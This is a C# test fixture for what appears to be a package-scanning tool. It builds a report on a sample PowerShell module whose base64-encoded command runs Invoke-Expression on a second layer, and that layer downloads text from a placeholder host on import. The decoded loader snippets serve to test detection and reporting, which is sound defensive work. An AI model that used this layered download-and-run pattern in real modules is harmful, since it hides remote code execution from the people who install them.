using Assay.Model;

namespace Assay.Reports.Tests;

/// <summary>A module whose script decodes a command that decodes another: what is found in it stands behind two layers.</summary>
internal static class LayeredSample
{
    private const string Inner = "Sample.psm1!EncodedCommand#1.ps1!Invoke-Expression#1.ps1";

    public static PackageReport Report { get; } = PlainSamples.Clean with
    {
        Package = new() { Purl = "pkg:psgallery/sample@1.2.0", Community = "psgallery", Id = "Sample", Version = "1.2.0", Authors = ["A. Writer"], Sha256 = new string('6', 64), Size = 20_480 },
        Verdict = new(VerdictStatus.Review, ["Downloads and runs (runs on: import)."]),
        Behaviors =
        [
            TrojanFindings.Behaviors[0] with
            {
                Id = "downloads-text", Title = "Downloads a text.", Surfaces = ["import"], Count = 1, EvidenceTotal = 1, Prevalence = Prevalence.NoSnapshot,
                Evidence =
                [
                    new()
                    {
                        Artifact = Inner, Kind = FactKind.Call, Value = "System.Net.WebClient::DownloadString", Arguments = new Dictionary<string, string>(StringComparer.Ordinal) { ["0"] = "https://example.invalid/a" },
                        ArgumentCount = 1, Derivation = Derivation.Recovered, Surfaces = ["import"], Location = new() { Line = 2, Column = 5 },
                    },
                ],
            },
        ],
        Files =
        [
            new("Sample", ArtifactKind.Folder, 20_480, new string('6', 64)),
            new("Sample!Sample.psm1", ArtifactKind.PowerShell, 16_384, new string('7', 64)),
            new("Sample!Sample.psm1!EncodedCommand#1.ps1", ArtifactKind.PowerShell, 412, new string('8', 64)) { Derived = new("base-64", "iex ($a -join '')") },
            new("Sample!" + Inner, ArtifactKind.PowerShell, 9_000, new string('9', 64))
            {
                Derived = new("joined characters", "if ($true) {\r\n\t$client = New-Object Net.WebClient\r\n\t$client.DownloadString('https://example.invalid/a')\r\n}\r\n" + string.Join("\r\n", Enumerable.Range(1, 8).Select(line => "# line " + line))),
            },
            new("Sample!Sample.format.ps1xml", ArtifactKind.PowerShellXml, 800, new string('a', 64)),
            new("Sample!Sample.format.ps1xml!ScriptBlock#1.ps1", ArtifactKind.PowerShell, 20, new string('b', 64)) { Derived = new("ScriptBlock of line 9", "$_.Name") },
            new("Sample!bin/Sample.dll!resource:a.dll", ArtifactKind.ManagedAssembly, 800, new string('c', 64)) { Derived = new("manifest resource", null) },
        ],
        Contents = new(6, 27_000, new Dictionary<string, int>(StringComparer.Ordinal) { ["powershell"] = 4 }, new Dictionary<string, int>(StringComparer.Ordinal) { ["import"] = 5 }),
    };
}
